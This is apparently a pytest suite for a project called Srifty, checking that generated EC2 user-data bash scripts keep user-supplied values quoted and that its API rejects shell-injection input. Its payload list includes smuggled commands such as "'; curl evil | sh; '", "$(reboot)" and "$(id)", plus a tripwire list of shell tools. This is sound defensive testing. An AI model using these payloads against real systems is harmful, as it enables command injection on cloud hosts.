"""Shell injection into the EC2 user-data Srifty builds (``fleet.boot``,
``launcher.launch``) from anything a user typed.

The scripts are not only grepped: their assignment block is *run* by bash with a ``PATH`` of
tripwires (``curl``, ``sh``, ``reboot``, ``id``, ...) that leave a mark when called, then every
variable and array is printed back and compared with what went in."""

from __future__ import annotations

import shutil
import subprocess
from decimal import Decimal
from pathlib import Path

import pytest

from fleet import boot as userdata

PAYLOADS = [
    "'; curl evil | sh; '",
    "$(reboot)",
    "`reboot`",
    "a\nreboot\n",
    '"; reboot; "',
    "\\'; reboot; #",
    "$((1+1))${IFS}$HOME",
    "x'\"'\"'$(id)",
    "--token=stolen",
    "*",
    "} ; reboot ; {",
    "\r\nreboot",
]
TRIPWIRES = ("curl", "sh", "bash", "reboot", "id", "shutdown", "rm", "wget", "python3")
BASH = shutil.which("bash") or ""
pytestmark = pytest.mark.skipif(not BASH, reason="needs bash")


def _tripwire_path(tmp_path: Path) -> tuple[Path, Path]:
    bin_dir, marks = tmp_path / "bin", tmp_path / "marks"
    bin_dir.mkdir()
    marks.mkdir()
    for name in TRIPWIRES:
        tool = bin_dir / name
        tool.write_text(f"#!{BASH}\necho called > {marks}/{name}\n")
        tool.chmod(0o755)
    return bin_dir, marks


def run_block(tmp_path: Path, script: str, start: str, end: str, show: str) -> str:
    """Run the lines of ``script`` from the one starting with ``start`` up to (not including)
    the one containing ``end``, then ``show``; returns stdout. Fails if a tripwire fired."""
    lines = script.split("\n")
    first = next(i for i, line in enumerate(lines) if line.startswith(start))
    last = next(i for i, line in enumerate(lines) if i > first and end in line)
    block = "\n".join(lines[first:last])
    bin_dir, marks = _tripwire_path(tmp_path)
    proc = subprocess.run(
        [BASH, "--noprofile", "--norc", "-c", f"set -u\n{block}\n{show}"],
        capture_output=True,
        env={"PATH": str(bin_dir), "HOME": str(tmp_path)},
        timeout=30,
    )
    assert proc.returncode == 0, proc.stderr
    fired = sorted(p.name for p in marks.iterdir())
    assert fired == [], f"the script ran {fired}: {block!r}"
    return proc.stdout.decode()  # bytes first: text mode would turn "\r\n" into "\n"


def _syntax_ok(script: str) -> None:
    proc = subprocess.run([BASH, "-n"], input=script, capture_output=True, text=True, timeout=30)
    assert proc.returncode == 0, proc.stderr


# --- the profiling VM ---------------------------------------------------------------------


@pytest.mark.parametrize("payload", PAYLOADS)
def test_profiling_user_data_keeps_every_agent_argument_and_the_token_a_string(tmp_path, payload):
    args = [
        "compute",
        "--model",
        payload,
        "--input-shape",
        payload,
        "--batch-sizes",
        payload,
        "--out",
        payload,
    ]
    script = userdata.profiling_user_data(
        "https://srifty.example.com",
        7,
        payload,
        args,
        30,
        repo_tarball_url=f"https://srifty.example.com/{payload}",
    )
    _syntax_ok(script)
    out = run_block(
        tmp_path,
        script,
        "SRIFTY_SERVER=",
        "# A Python with torch",
        'printf "%s\\0" "$SRIFTY_TOKEN" "$SRIFTY_REPO_URL" "$SRIFTY_RUN_ID" "${AGENT_ARGS[@]}"',
    )
    values = out.split("\0")[:-1]
    assert values == [payload, f"https://srifty.example.com/{payload}", "7", *args]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_hostile_server_url_or_run_id_stays_a_string(tmp_path, payload):
    script = userdata.profiling_user_data(
        f"https://srifty.example.com/{payload}", payload, "tok", ["comm"], 30
    )
    _syntax_ok(script)
    out = run_block(
        tmp_path,
        script,
        "SRIFTY_SERVER=",
        "# A Python with torch",
        'printf "%s\\0" "$SRIFTY_SERVER" "$SRIFTY_RUN_ID" "$SRIFTY_EVENTS_URL"',
    )
    server, run_id, events = out.split("\0")[:-1]
    assert run_id == payload and server.startswith("https://srifty.example.com/")
    assert events == f"{server}/api/v1/profiling-runs/{payload}/events/"


@pytest.mark.parametrize(
    "server", ["javascript:alert(1)", "file:///etc/passwd", "https://", "$(reboot)", " https://x", "ftp://x"]
)
def test_a_server_url_that_is_not_http_is_refused(server):
    with pytest.raises(ValueError):
        userdata.profiling_user_data(server, 1, "tok", ["comm"], 30)


def test_a_nul_byte_in_any_value_is_refused():
    with pytest.raises(ValueError, match="NUL"):
        userdata.profiling_user_data("https://s.example.com", 1, "tok\x00x", ["comm"], 30)
    with pytest.raises(ValueError, match="NUL"):
        userdata.task_user_data("https://s.example.com", 1, "tok", "", "python train.py a\x00b", 30)


# --- the task and cluster nodes -----------------------------------------------------------


@pytest.mark.parametrize("payload", PAYLOADS)
def test_task_user_data_keeps_every_value_a_string(tmp_path, payload):
    script = userdata.task_user_data(
        "https://srifty.example.com",
        payload,
        payload,
        payload,
        payload,
        60,
        workdir_url=payload,
        git_url=payload,
        git_ref=payload,
        agent_url=payload,
    )
    _syntax_ok(script)
    out = run_block(
        tmp_path,
        script,
        "export ",
        "# A Python with torch",
        'printf "%s\\0" "$SRIFTY_JOB_ID" "$SRIFTY_TOKEN" "$SRIFTY_SETUP" "$SRIFTY_RUN" "$SRIFTY_WORKDIR_URL" '
        '"$SRIFTY_GIT_URL" "$SRIFTY_GIT_REF" "$SRIFTY_REPO_URL"',
    )
    assert out.split("\0")[:-1] == [payload] * 8


@pytest.mark.parametrize("name", ["A;B", "A B", "1A", "A$(id)", "A\nB", "", "PATH=x"])
def test_env_names_that_are_not_identifiers_are_refused(name):
    with pytest.raises(ValueError):
        userdata.comm_cluster_user_data("https://s.example.com", 1, "t", 2, 1, ["comm"], 30, env={name: "v"})


@pytest.mark.parametrize(
    "field, value",
    [
        ("nnodes", "2 && reboot"),
        ("nnodes", 1),
        ("gpus_per_node", "8; reboot"),
        ("max_minutes", "5; reboot"),
        ("master_port", "29500; reboot"),
        ("master_port", 70000),
        ("linger_s", "$(reboot)"),
    ],
)
def test_structured_values_are_validated_not_interpolated(field, value):
    kwargs = dict(
        server_url="https://s.example.com",
        run_id=1,
        token="t",
        nnodes=2,
        gpus_per_node=1,
        agent_args=["comm"],
        max_minutes=30,
    )
    kwargs[field] = value
    with pytest.raises(ValueError):
        userdata.comm_cluster_user_data(**kwargs)


def test_aws_credentials_never_go_into_user_data():
    for name in ("AWS_ACCESS_KEY_ID", "aws_secret_access_key", "AWS_SESSION_TOKEN"):
        with pytest.raises(ValueError):
            userdata.comm_cluster_user_data(
                "https://s.example.com", 1, "t", 2, 1, ["comm"], 30, env={name: "AKIA..."}
            )


# --- through the app: what a user can type reaches the script only quoted -------------------


@pytest.mark.django_db
@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_hostile_train_command_through_the_launch_path_stays_words(tmp_path, user, settings, payload):
    import shlex

    from launcher import options

    settings.SITE_URL = "https://srifty.example.com"
    option = {
        "region": "us-east-1",
        "global_batch": 64,
        "groups": [
            {
                "instance_type": "g5.xlarge",
                "market": "spot",
                "zone": "use1-az1",
                "count": 2,
                "gpus_per_node": 1,
                "price_per_hour": 0.5,
                "batch_per_node": [32, 32],
            }
        ],
    }
    command = f"train.py {shlex.quote(payload)}"
    spec = options.task_spec("", command)  # a command is the run of a task, under torchrun
    options.check_user_data(spec)  # accepted: it is the user's own command
    assert option["groups"]  # the node's environment comes from the server, not the script
    script = options.user_data(41, spec, "tok", 60)
    _syntax_ok(script)
    # The node runs the task's run with bash (bash -c "$SRIFTY_RUN"): torchrun gets the words.
    out = run_block(
        tmp_path,
        script,
        "export ",
        "# A Python with torch",
        "NNODES=2 NPROC_PER_NODE=1 NODE_RANK=0 MASTER_ADDR=10.0.0.1 MASTER_PORT=29500\n"
        'torchrun() { printf "%s\\0" "$@"; }\neval "$SRIFTY_RUN"',
    )
    assert out.split("\0")[:-1][-2:] == ["train.py", payload]
    assert out.split("\0")[:2] == ["--nnodes", "2"]


@pytest.mark.django_db
@pytest.mark.parametrize(
    "field", ["model_spec", "input_shape", "batch_sizes", "max_memory", "device", "precision"]
)
@pytest.mark.parametrize(
    "payload", [*PAYLOADS, "8;reboot", "3,224,224\nreboot", "auto\n$(reboot)", "2GB\n\nx"]
)
def test_profiling_fields_with_shell_payloads_are_refused_by_the_api(user_api, field, payload):
    body = {
        "kind": "compute",
        "model_spec": "torchvision:resnet18",
        "input_shape": "3,32,32",
        "batch_sizes": "4,8",
        "max_memory": "2GB",
        "device": "cpu",
        "precision": "fp32",
        field: payload,
    }
    resp = user_api.post("/api/v1/profiling-runs/", body, format="json")
    assert resp.status_code == 400 and field in resp.json(), resp.content


@pytest.mark.django_db
@pytest.mark.parametrize("field", ["sizes", "backend"])
@pytest.mark.parametrize("payload", [*PAYLOADS, "1KB..4KB\nreboot"])
def test_comm_fields_with_shell_payloads_are_refused_by_the_api(user_api, field, payload):
    body = {"kind": "comm", "world_size": 2, "backend": "gloo", "sizes": "1KB..4KB", field: payload}
    resp = user_api.post("/api/v1/profiling-runs/", body, format="json")
    assert resp.status_code == 400 and field in resp.json(), resp.content


@pytest.mark.parametrize("value", ["3,224,224\n", "auto\n", "2GB\n", "1KB..4KB\n"])
def test_the_field_patterns_do_not_accept_a_trailing_newline(value):
    """Python's ``$`` matches before a final newline; the API trims whitespace first, but the
    patterns are shared (plan requests, pages) and must hold on their own."""
    from profiler.serializers import BATCHES_RE, MEMORY_RE, SIZES_RE
    from srifty_web.input_shape import SHAPE_RE

    assert not any(p.match(value) for p in (SHAPE_RE, BATCHES_RE, MEMORY_RE, SIZES_RE))
    assert any(p.match(value.strip()) for p in (SHAPE_RE, BATCHES_RE, MEMORY_RE, SIZES_RE))


@pytest.mark.django_db
@pytest.mark.parametrize("field", ["region", "instance_type"])
@pytest.mark.parametrize("payload", PAYLOADS[:4])
def test_ec2_placement_fields_with_shell_payloads_are_refused_by_the_api(user_api, catalog, field, payload):
    body = {
        "kind": "comm",
        "world_size": 2,
        "backend": "gloo",
        "provider": "ec2",
        "region": "us-east-1",
        "instance_type": "g5.xlarge",
        field: payload,
    }
    resp = user_api.post("/api/v1/profiling-runs/", body, format="json")
    assert resp.status_code == 400 and field in resp.json(), resp.content


@pytest.mark.django_db
def test_an_ec2_profiling_runs_script_carries_its_fields_only_quoted(tmp_path, make_run, settings):
    """Even a row written around the serializer (admin, shell) cannot break out of the script."""
    from profiler.providers import agent_args

    settings.SITE_URL = "https://srifty.example.com"
    payload = "'; curl evil | sh; '"
    run = make_run(
        model_spec=payload, input_shape="$(reboot)", batch_sizes="`reboot`", max_memory="a\nreboot"
    )
    args = agent_args(run, "/tmp/srifty-profile.json")
    script = userdata.profiling_user_data(settings.SITE_URL, run.pk, "tok", args, 30)
    out = run_block(
        tmp_path, script, "SRIFTY_SERVER=", "# A Python with torch", 'printf "%s\\0" "${AGENT_ARGS[@]}"'
    )
    assert out.split("\0")[:-1] == args


@pytest.mark.django_db
def test_a_plan_name_or_job_fields_never_reach_the_script(user, settings):
    from launcher import jobs, options
    from planner.app.models import PlanRecord

    settings.SITE_URL = "https://srifty.example.com"
    option = {
        "rank": 1,
        "region": "us-east-1",
        "global_batch": 32,
        "iter_time_s": 0.5,
        "time_h": 1,
        "throughput_sps": 10,
        "groups": [
            {
                "instance_type": "g5.xlarge",
                "market": "spot",
                "zone": "use1-az1",
                "count": 1,
                "gpus_per_node": 1,
                "price_per_hour": 0.5,
                "batch_per_node": [32],
            }
        ],
    }
    plan = PlanRecord.objects.create(
        owner=user,
        name="$(reboot)'; curl evil | sh; '",
        request={},
        status="solved",
        result={"plans": [option]},
    )
    from django.contrib.auth.models import Permission

    user.user_permissions.add(Permission.objects.get(codename="add_job", content_type__app_label="launcher"))
    owner = type(user).objects.get(pk=user.pk)
    job = jobs.create_job(owner, plan, 1, "train.py", Decimal("5"), 1, confirm=True)
    script = options.user_data(job.pk, options.task_spec(job.task, job.train_command), "tok", 30)
    assert "reboot" not in script and "evil" not in script
